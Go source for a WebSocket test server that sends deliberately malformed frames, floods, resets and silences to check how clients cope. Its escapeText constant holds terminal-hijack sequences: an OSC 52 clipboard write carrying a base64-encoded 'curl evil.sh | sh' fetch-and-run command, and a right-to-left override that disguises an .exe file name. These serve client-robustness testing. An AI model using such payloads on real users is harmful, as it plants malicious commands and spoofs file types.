package demo

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/gorilla/websocket"
)

// errHangUp ends the writer after a job that finished the connection.
var errHangUp = errors.New("demo: connection finished")

// maxIncoming bounds the messages a client may send.
const maxIncoming = 16 << 20

// A job writes to the connection. Only the session's writer goroutine runs
// jobs, so gorilla's writes and raw frame writes never interleave.
type job func() error

// session serves one WebSocket connection with three goroutines: the reader
// (commands, pings, closes), the writer (runs jobs in order) and the feed
// (ticks and pings on timers).
type session struct {
	ws   *websocket.Conn
	raw  net.Conn
	pace pacing
	rng  *rand.Rand // used by the feed goroutine only

	jobs     chan job
	stop     chan struct{}
	stopOnce sync.Once

	silentUntil atomic.Int64 // unix nanoseconds; while in the future nothing is sent
	closeSent   atomic.Bool  // our close frame is out; only the client's may follow
}

func newSession(c *websocket.Conn, pace pacing) *session {
	return &session{
		ws:   c,
		raw:  c.NetConn(),
		pace: pace,
		rng:  rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64())),
		jobs: make(chan job, 64),
		stop: make(chan struct{}),
	}
}

// run serves the connection and returns once all its goroutines have ended.
func (s *session) run() {
	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		s.writeLoop()
	}()
	go func() {
		defer wg.Done()
		s.feed()
	}()
	s.readLoop()
	wg.Wait()
}

// shutdown ends the session at once; it is safe to call from anywhere, more
// than once.
func (s *session) shutdown() {
	s.stopOnce.Do(func() {
		close(s.stop)
		s.raw.Close()
	})
}

// quiet reports whether nothing may be sent: during "slow", or once our
// close frame has gone out.
func (s *session) quiet() bool {
	return s.closeSent.Load() || time.Now().UnixNano() < s.silentUntil.Load()
}

// enqueue hands a job to the writer, unless the session is ending.
func (s *session) enqueue(j job) {
	select {
	case s.jobs <- j:
	case <-s.stop:
	}
}

func (s *session) writeLoop() {
	for {
		select {
		case j := <-s.jobs:
			if s.quiet() {
				continue
			}
			if err := j(); err != nil {
				s.shutdown()
				return
			}
		case <-s.stop:
			return
		}
	}
}

func (s *session) readLoop() {
	s.ws.SetReadLimit(maxIncoming)
	s.ws.SetPingHandler(func(data string) error {
		if !s.quiet() {
			s.enqueue(func() error { return s.ws.WriteControl(websocket.PongMessage, []byte(data), time.Time{}) })
		}
		return nil
	})
	replyQueued := false
	s.ws.SetCloseHandler(func(code int, text string) error {
		if s.quiet() {
			return nil // already closing, or pretending to be gone
		}
		// Echo the code, as RFC 6455 §5.5.1 suggests; 1005 means the client
		// sent none, so neither do we.
		reply := []byte{}
		if code != websocket.CloseNoStatusReceived {
			reply = websocket.FormatCloseMessage(code, "")
		}
		replyQueued = true
		s.enqueue(func() error {
			s.ws.WriteControl(websocket.CloseMessage, reply, time.Time{})
			return errHangUp
		})
		return nil
	})
	for {
		kind, data, err := s.ws.ReadMessage()
		if err != nil {
			break
		}
		if s.quiet() {
			continue
		}
		if kind == websocket.BinaryMessage {
			s.enqueue(s.message(websocket.BinaryMessage, data))
			continue
		}
		s.do(parseCommand(string(data)))
	}
	if replyQueued {
		// Give the writer a moment to send the close reply.
		select {
		case <-s.stop:
		case <-time.After(s.pace.closeGrace):
		}
	}
	s.shutdown()
}

// message returns a job that sends one whole message.
func (s *session) message(kind int, data []byte) job {
	return func() error { return s.ws.WriteMessage(kind, data) }
}

func (s *session) text(msg string) job { return s.message(websocket.TextMessage, []byte(msg)) }

// do carries out a parsed command.
func (s *session) do(cmd command) {
	switch cmd.kind {
	case cmdHelp:
		s.enqueue(s.text(helpText))
	case cmdEcho:
		s.enqueue(s.text(cmd.text))
	case cmdClose:
		s.enqueue(s.closeWith(cmd.code, cmd.text))
	case cmdError:
		s.enqueue(s.message(websocket.TextMessage, errorEnvelope(cmd.code, cmd.text)))
	case cmdUsage:
		s.enqueue(s.message(websocket.TextMessage, errorEnvelope(4000, cmd.text)))
	case cmdUnknown:
		s.enqueue(s.message(websocket.TextMessage, errorEnvelope(4000, "unknown command")))
	case cmdRPCError:
		s.enqueue(s.text(`{"jsonrpc":"2.0","id":1,"error":{"code":-32601,"message":"Method not found"}}`))
	case cmdEscape:
		s.enqueue(s.text(escapeText))
	case cmdDrop:
		s.enqueue(s.drop)
	case cmdFlood:
		s.enqueue(s.flood(cmd.n))
	case cmdBig:
		s.enqueue(s.big(cmd.n))
	case cmdBadUTF8:
		s.enqueue(s.rawFrames(frame(finBit|opText, []byte("caf\xc3( \xff\xfe is not UTF-8"))))
	case cmdRSV:
		s.enqueue(s.rawFrames(frame(finBit|rsv2Bit|opText, []byte("this frame has RSV2 set"))))
	case cmdFragment:
		s.enqueue(s.rawFrames(
			frame(opText, []byte("this message came ")),
			frame(finBit|opPing, []byte("between fragments")),
			frame(opContinuation, []byte("in three ")),
			frame(finBit|opContinuation, []byte("fragments")),
		))
	case cmdSlow:
		s.enqueue(func() error {
			notice := fmt.Sprintf(`{"type":"info","message":"going silent for %v: no messages, no pongs"}`, s.pace.silence)
			err := s.ws.WriteMessage(websocket.TextMessage, []byte(notice))
			s.silentUntil.Store(time.Now().Add(s.pace.silence).UnixNano())
			return err
		})
	}
}

// closeWith sends a close frame with any code, then waits for the client's
// reply. gorilla writes any code but refuses payloads over 125 bytes; those
// go out raw.
func (s *session) closeWith(code int, reason string) job {
	return func() error {
		payload := append([]byte{byte(code >> 8), byte(code)}, reason...)
		// Mark first: the client's answer can arrive before the write returns.
		s.closeSent.Store(true)
		var err error
		if len(payload) <= 125 {
			err = s.ws.WriteControl(websocket.CloseMessage, payload, time.Time{})
		} else {
			_, err = s.raw.Write(frame(finBit|opClose, payload))
		}
		if err != nil {
			return err
		}
		// The reader ends on the client's close frame or on this deadline.
		return s.raw.SetReadDeadline(time.Now().Add(s.pace.closeGrace))
	}
}

// drop resets the TCP connection: SO_LINGER 0 makes Close send RST instead
// of FIN, and no close frame goes out first.
func (s *session) drop() error {
	if tc, ok := s.raw.(*net.TCPConn); ok {
		tc.SetLinger(0)
	}
	s.raw.Close()
	return errHangUp
}

func (s *session) flood(n int) job {
	return func() error {
		buf := make([]byte, 0, 64)
		for i := 1; i <= n; i++ {
			buf = fmt.Appendf(buf[:0], `{"type":"flood","seq":%d,"of":%d}`, i, n)
			if err := s.ws.WriteMessage(websocket.TextMessage, buf); err != nil {
				return err
			}
		}
		return nil
	}
}

// big streams one text message of exactly n bytes, JSON when n leaves room
// for the wrapping.
func (s *session) big(n int) job {
	return func() error {
		w, err := s.ws.NextWriter(websocket.TextMessage)
		if err != nil {
			return err
		}
		head := fmt.Sprintf(`{"type":"big","bytes":%d,"data":"`, n)
		const tail = `"}`
		filler := n
		if n >= len(head)+len(tail) {
			filler -= len(head) + len(tail)
			io.WriteString(w, head)
		}
		chunk := []byte(strings.Repeat("0123456789abcdef", 2048))
		for filler > 0 {
			m := min(filler, len(chunk))
			if _, err := w.Write(chunk[:m]); err != nil {
				return err
			}
			filler -= m
		}
		if n >= len(head)+len(tail) {
			io.WriteString(w, tail)
		}
		return w.Close()
	}
}

func (s *session) rawFrames(frames ...[]byte) job {
	return func() error {
		_, err := (*net.Buffers)(&frames).WriteTo(s.raw)
		return err
	}
}

// Frame header bits for raw writes.
const (
	finBit         = 0x80
	rsv2Bit        = 0x20
	opContinuation = 0x0
	opText         = 0x1
	opClose        = 0x8
	opPing         = 0x9
)

// frame encodes an unmasked server frame whose first byte is b0.
func frame(b0 byte, payload []byte) []byte {
	b := make([]byte, 0, 10+len(payload))
	switch n := len(payload); {
	case n <= 125:
		b = append(b, b0, byte(n))
	case n <= 0xFFFF:
		b = append(b, b0, 126)
		b = binary.BigEndian.AppendUint16(b, uint16(n))
	default:
		b = append(b, b0, 127)
		b = binary.BigEndian.AppendUint64(b, uint64(n))
	}
	return append(b, payload...)
}

// errorEnvelope builds an application error in the common
// {"type":"error","data":{...},"meta":{...}} shape.
func errorEnvelope(code int, message string) []byte {
	type data struct {
		Code    int    `json:"code"`
		Message string `json:"message"`
	}
	type meta struct {
		RequestID string `json:"request_id"`
		Timestamp string `json:"timestamp"`
	}
	b, _ := json.Marshal(struct {
		Type string `json:"type"`
		Data data   `json:"data"`
		Meta meta   `json:"meta"`
	}{"error", data{code, message}, meta{requestID(), timestamp(time.Now())}})
	return b
}

func requestID() string { return fmt.Sprintf("req-%08x", rand.Uint32()) }

func timestamp(t time.Time) string { return t.UTC().Format("2006-01-02T15:04:05.000Z") }

// escapeText carries what a hostile server might send to take over a
// terminal: screen clearing, colours, a window title, a clipboard write, a
// bell, and a right-to-left override that reverses how a file name reads.
const escapeText = "escape test: \x1b[2J\x1b[H\x1b[31mred\x1b[0m " +
	"\x1b]0;window title set by the server\x07 " +
	"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 " +
	"invoice_\u202egpj.exe\u202c bell\x07 end"
